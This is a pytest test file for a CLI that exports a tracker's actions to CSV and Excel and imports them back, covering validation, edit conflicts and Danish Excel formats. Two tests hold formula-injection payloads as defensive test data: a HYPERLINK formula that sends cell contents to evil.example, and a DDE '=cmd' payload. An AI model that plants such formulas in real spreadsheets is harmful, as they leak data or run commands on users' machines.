"""The spreadsheet round trip: `tracker export csv` and `tracker import-actions`.

A database from the seed, the CLI through typer's runner with today frozen.
A file exported and imported unchanged changes nothing; edits land through the
services (with audit events); a file with one bad cell changes nothing at all.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select
from typer.testing import CliRunner

from tests.tui_support import SEED, TODAY, make_context
from tracker.cli import app
from tracker.models import Action, ActionEvent
from tracker.spreadsheet import COLUMNS

runner = CliRunner()


@pytest.fixture
def database(database_url: str, engine: Engine, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setattr("tracker.cli.clock.today", lambda: TODAY)
    monkeypatch.setenv("TRACKER_USER", "ØC")
    make_context(engine, SEED)
    return database_url


def snapshot(url: str) -> tuple[list[dict[str, Any]], int]:
    """Every action's columns, and how many events there are."""
    from tracker.db import make_engine

    engine = make_engine(url)
    with Session(engine) as session:
        actions = [a.model_dump() for a in session.exec(select(Action).order_by(Action.id))]
        events = len(session.exec(select(ActionEvent)).all())
    engine.dispose()
    return actions, events


def export(url: str, path: Path, *extra: str) -> bytes:
    result = runner.invoke(app, ["export", "csv", "--db", url, "-o", str(path), *extra])
    assert result.exit_code == 0, result.output
    return path.read_bytes()


def rows(path: Path) -> list[dict[str, str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), dialect=csv.Sniffer().sniff(text)))


def write(path: Path, records: list[dict[str, str]], delimiter: str = ",") -> None:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(records[0]), delimiter=delimiter)
    writer.writeheader()
    writer.writerows(records)
    path.write_text(buffer.getvalue(), encoding="utf-8-sig", newline="")


def import_(url: str, path: Path, *extra: str) -> Any:
    return runner.invoke(app, ["import-actions", str(path), "--db", url, *extra])


def test_an_unchanged_round_trip_changes_nothing(database: str, tmp_path: Path) -> None:
    first = export(database, tmp_path / "a.csv")
    assert first.startswith("\ufeff".encode())  # Excel reads the BOM as UTF-8
    before = snapshot(database)
    result = import_(database, tmp_path / "a.csv")
    assert result.exit_code == 0, result.output
    assert "Changed 0 of 9 actions." in result.output
    assert snapshot(database) == before
    assert export(database, tmp_path / "b.csv") == first


def test_edits_are_applied_through_the_services(database: str, tmp_path: Path) -> None:
    path = tmp_path / "actions.csv"
    export(database, path)
    records = {int(r["id"]): r for r in rows(path)}
    records[3].update(owner="HRC", due="2022-09-30", due_text="", status="done")
    records[4].update(status="open", notes="Talt med ØC\nSlides på vej")
    records[9].update(status="on_hold", condition="krigen slutter")
    records[6].update(status="rejected")
    write(path, list(records.values()), delimiter=";")  # as Danish Excel saves it
    dry = import_(database, path, "--dry-run")
    assert dry.exit_code == 0, dry.output
    assert "ID 3: owner Sekretariatet -> HRC" in dry.output
    assert "Would change 4 of 9 actions." in dry.output
    result = import_(database, path)
    assert result.exit_code == 0, result.output
    after = {a["id"]: a for a in snapshot(database)[0]}
    assert (after[3]["owner"], str(after[3]["due"]), after[3]["status"]) == (
        "HRC",
        "2022-09-30",
        "done",
    )
    assert after[3]["due_text"] is None and after[3]["completed_at"] is not None
    assert (after[4]["status"], after[4]["notes"]) == ("open", "Talt med ØC\nSlides på vej")
    assert (after[9]["status"], after[9]["condition"]) == ("on_hold", "krigen slutter")
    assert after[6]["status"] == "rejected"
    history = runner.invoke(app, ["history", "3", "--db", database, "-f", "json"])
    assert {(e["field"], e["user"]) for e in json.loads(history.stdout)} >= {
        ("owner", "ØC"),
        ("due", "ØC"),
        ("status", "ØC"),
    }
    # and back again: the new state exports and re-imports as no change
    export(database, path)
    assert "Changed 0 of 9 actions." in import_(database, path).output


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("due", "31/02/2024", "actions.csv: row 4, column due: '31/02/2024' is not a date"),
        ("due", "30/9", "actions.csv: row 4, column due: '30/9' is not a date"),
        ("id", "999", "actions.csv: row 4, column id: no action has ID 999"),
        ("id", "²", "actions.csv: row 4, column id: '²' is not an action ID"),
        ("status", "finished", "actions.csv: row 4, column status: 'finished' is not a status"),
        ("notes", "", "actions.csv: row 4, column notes: notes can be added to at the end"),
    ],
)  # fmt: skip
def test_a_bad_cell_is_refused_and_nothing_is_written(
    database: str, tmp_path: Path, column: str, value: str, message: str
) -> None:
    path = tmp_path / "actions.csv"
    export(database, path)
    records = rows(path)
    records[0]["owner"] = "HRC"  # a valid edit in another row, which must not land either
    records[1]["status"] = "open"
    records[2]["notes"] = "Gammel note"
    write(path, records)
    import_(database, path)  # row 4 now has a note to protect
    records = rows(path)
    records[0]["owner"] = "CEIS"
    records[2][column] = value
    write(path, records)
    before = snapshot(database)
    result = import_(database, path)
    assert result.exit_code == 1
    assert message in result.output
    assert snapshot(database) == before


def test_a_missing_column_is_named(database: str, tmp_path: Path) -> None:
    path = tmp_path / "actions.csv"
    path.write_text("id,title\n1,x\n", encoding="utf-8")
    result = import_(database, path)
    assert result.exit_code == 1
    assert "actions.csv: no column owner, due, due_text, status, notes" in result.output


def test_a_row_someone_changed_since_the_export_is_refused(
    database: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    export(database, tmp_path / "a.csv")
    sheet = rows(tmp_path / "a.csv")
    first = sheet[0]["id"]
    assert {row["version"] for row in sheet} == {"1"}
    monkeypatch.setenv("TRACKER_USER", "Bo")
    assert runner.invoke(app, ["assign", first, "--owner", "HR", "--db", database]).exit_code == 0
    before = snapshot(database)

    sheet[0]["owner"] = "Økonomi"  # would silently undo Bo's HR
    sheet[1]["status"] = "open"  # a row nobody else touched
    write(tmp_path / "edited.csv", sheet)
    result = import_(database, tmp_path / "edited.csv")
    assert result.exit_code == 1
    assert (
        f"edited.csv: row 2, column version: ID {first} was changed by someone else since the "
        f"export (version 1, now 2: Bo: owner " in result.output
    )
    assert "-> HR); export again and redo this row" in result.output
    assert snapshot(database) == before  # the whole file is refused

    del sheet[0]  # without the stale row, the rest applies
    write(tmp_path / "rest.csv", sheet)
    assert import_(database, tmp_path / "rest.csv").exit_code == 0


def test_a_new_due_date_replaces_the_phrase_it_was_read_from(database: str, tmp_path: Path) -> None:
    path = tmp_path / "actions.csv"
    export(database, path)
    records = {int(r["id"]): r for r in rows(path)}
    assert (records[3]["due"], records[3]["due_text"]) == ("2022-08-22", "snarest")
    records[3]["due"] = "2022-09-30"  # the phrase column left as exported
    records[4].update(due="2022-10-31", due_text="ultimo oktober")  # both edited: both kept
    records[5]["due_text"] = "på heldagsmødet i september"  # only the phrase edited: kept
    write(path, list(records.values()))
    result = import_(database, path)
    assert result.exit_code == 0, result.output
    assert "ID 3: due_text snarest -> (none)" in result.output
    after = {a["id"]: a for a in snapshot(database)[0]}
    assert (str(after[3]["due"]), after[3]["due_text"]) == ("2022-09-30", None)
    assert (str(after[4]["due"]), after[4]["due_text"]) == ("2022-10-31", "ultimo oktober")
    assert (str(after[5]["due"]), after[5]["due_text"]) == (
        "2022-09-12",
        "på heldagsmødet i september",
    )
    history = json.loads(
        runner.invoke(app, ["history", "3", "--db", database, "-f", "json"]).stdout
    )
    assert {(e["field"], e["old"], e["new"]) for e in history} >= {
        ("due", "2022-08-22", "2022-09-30"),
        ("due_text", "snarest", None),
    }
    report = runner.invoke(app, ["report", "--for", "2022-08-29", "--db", database, "--lang", "da"])
    assert "Send programmet ud til Byrådet" in report.output
    assert "snarest" not in report.output


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("owner", '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'),
        ("notes", "+SUM(A1:A9)"),
        ("notes", "-5 % budget"),
        ("condition", "@kommunen"),
        ("notes", "'=already quoted"),  # an apostrophe of its own is kept too
    ],
)
def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_restored(
    database: str, engine: Engine, tmp_path: Path, column: str, value: str
) -> None:
    with Session(engine) as session:
        action = session.get(Action, 9 if column == "condition" else 3)
        assert action is not None
        setattr(action, column, value)
        action.title = "=cmd|' /C calc'!A0"
        session.commit()
    path = tmp_path / "actions.csv"
    export(database, path)
    cells = {int(r["id"]): r for r in rows(path)}[9 if column == "condition" else 3]
    assert cells[column] == "'" + value  # read as text, never run
    assert cells["title"] == "'=cmd|' /C calc'!A0"
    before = snapshot(database)
    result = import_(database, path)
    assert result.exit_code == 0, result.output
    assert "Changed 0 of 9 actions." in result.output
    assert snapshot(database) == before
    assert export(database, tmp_path / "again.csv") == path.read_bytes()


def test_a_cell_excel_saved_without_the_apostrophe_is_read_as_typed(
    database: str, tmp_path: Path
) -> None:
    path = tmp_path / "actions.csv"
    export(database, path)
    records = {int(r["id"]): r for r in rows(path)}
    records[3]["notes"] = "-5 % budget"  # typed as '-5 % budget; Excel saves it bare
    records[4]["notes"] = "'+45 12 34 56 78"  # or keeps the apostrophe of the export
    write(path, list(records.values()))
    assert import_(database, path).exit_code == 0
    after = {a["id"]: a for a in snapshot(database)[0]}
    assert (after[3]["notes"], after[4]["notes"]) == ("-5 % budget", "+45 12 34 56 78")


def test_a_file_saved_by_danish_excel_round_trips(database: str, tmp_path: Path) -> None:
    """Excel's "CSV (semikolonsepareret)": cp1252 without BOM, semicolons, and every
    date it recognised rewritten as dd-mm-yyyy."""
    path = tmp_path / "actions.csv"
    export(database, path)
    records = {int(r["id"]): r for r in rows(path)}
    for record in records.values():
        for column in ("due", "meeting"):
            if record[column]:
                year, month, day = record[column].split("-")
                record[column] = f"{day}-{month}-{year}"
    records[5]["owner"] = "Økonomi og Løn"
    records[3]["due"] = "30.09.2022"
    records[4]["due"] = "31/10/2022"
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(records[3]), delimiter=";")
    writer.writeheader()
    writer.writerows(records.values())
    path.write_bytes(buffer.getvalue().encode("cp1252"))
    result = import_(database, path)
    assert result.exit_code == 0, result.output
    assert "Changed 3 of 9 actions." in result.output
    after = {a["id"]: a for a in snapshot(database)[0]}
    assert after[5]["owner"] == "Økonomi og Løn"
    assert (str(after[3]["due"]), str(after[4]["due"])) == ("2022-09-30", "2022-10-31")
    assert str(after[6]["due"]) == "None"


# --- the same round trip as an Excel workbook (-o actions.xlsx) ---------------------


def test_a_workbook_has_date_cells_and_text_that_is_never_a_formula(
    database: str, engine: Engine, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/","Klik")'
    with Session(engine) as session:
        action = session.get(Action, 3)
        assert action is not None
        action.owner = formula
        session.commit()
    path = tmp_path / "actions.xlsx"
    export(database, path)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    assert tuple(header) == COLUMNS
    row = {column: cell for column, cell in zip(header, sheet[2], strict=True)}
    assert row["id"].value == 3
    assert row["due"].value == dt.datetime(2022, 8, 22)  # a date cell, not text
    assert row["due"].is_date
    assert (row["owner"].value, row["owner"].data_type) == (formula, "s")
    assert row["notes"].number_format == "@"  # what people type there stays text
    before = snapshot(database)
    result = import_(database, path)
    assert result.exit_code == 0, result.output
    assert "Changed 0 of 9 actions." in result.output
    assert snapshot(database) == before


def test_edits_in_a_workbook_are_applied(database: str, tmp_path: Path) -> None:
    path = tmp_path / "actions.xlsx"
    export(database, path)
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.worksheets[0]
    column = {cell.value: cell.column for cell in sheet[1]}
    by_id = {row[0].value: row[0].row for row in sheet.iter_rows(min_row=2)}

    def put(action_id: int, name: str, value: object) -> None:
        sheet.cell(row=by_id[action_id], column=column[name], value=value)

    put(3, "due", dt.datetime(2022, 9, 30))  # as Excel saves a date typed over the old one
    put(4, "notes", "-5 % budget")
    put(4, "owner", "Økonomi")
    put(5, "due", "15.09.2022")  # a date typed into a cell Excel kept as text
    workbook.save(path)
    result = import_(database, path)
    assert result.exit_code == 0, result.output
    assert "Changed 3 of 9 actions." in result.output
    after = {a["id"]: a for a in snapshot(database)[0]}
    assert (str(after[3]["due"]), after[3]["due_text"]) == ("2022-09-30", None)
    assert (after[4]["owner"], after[4]["notes"]) == ("Økonomi", "-5 % budget")
    assert str(after[5]["due"]) == "2022-09-15"
    export(database, path)
    assert "Changed 0 of 9 actions." in import_(database, path).output


def test_a_bad_cell_in_a_workbook_is_named_and_nothing_is_written(
    database: str, tmp_path: Path
) -> None:
    path = tmp_path / "actions.xlsx"
    export(database, path)
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.worksheets[0]
    sheet["B2"] = "Ny titel"  # context only: ignored
    sheet["C3"] = "HRC"
    sheet["D4"] = "uge 38"
    workbook.save(path)
    before = snapshot(database)
    result = import_(database, path)
    assert result.exit_code == 1
    assert "actions.xlsx: row 4, column due: 'uge 38' is not a date" in result.output
    assert snapshot(database) == before


def test_a_file_that_is_not_a_workbook_is_refused_in_one_line(
    database: str, tmp_path: Path
) -> None:
    path = tmp_path / "actions.xlsx"
    path.write_text("id,owner\n", encoding="utf-8")
    result = import_(database, path)
    assert result.exit_code == 1
    assert result.output.startswith("error: actions.xlsx: not an Excel workbook")
    assert len(result.output.strip().splitlines()) == 1
    refused = runner.invoke(
        app, ["export", "csv", "--db", database, "-o", str(path), "--delimiter", ";"]
    )
    assert refused.exit_code == 1
    assert "--delimiter: a workbook (.xlsx) has no delimiter" in refused.output


@pytest.mark.parametrize("name", ["actions.csv", "actions.xlsx"])
def test_a_file_that_cannot_be_written_is_named(database: str, tmp_path: Path, name: str) -> None:
    path = tmp_path / "no such folder" / name
    result = runner.invoke(app, ["export", "csv", "--db", database, "-o", str(path)])
    assert result.exit_code == 1
    assert result.output == f"error: {path}: cannot write it (No such file or directory)\n"
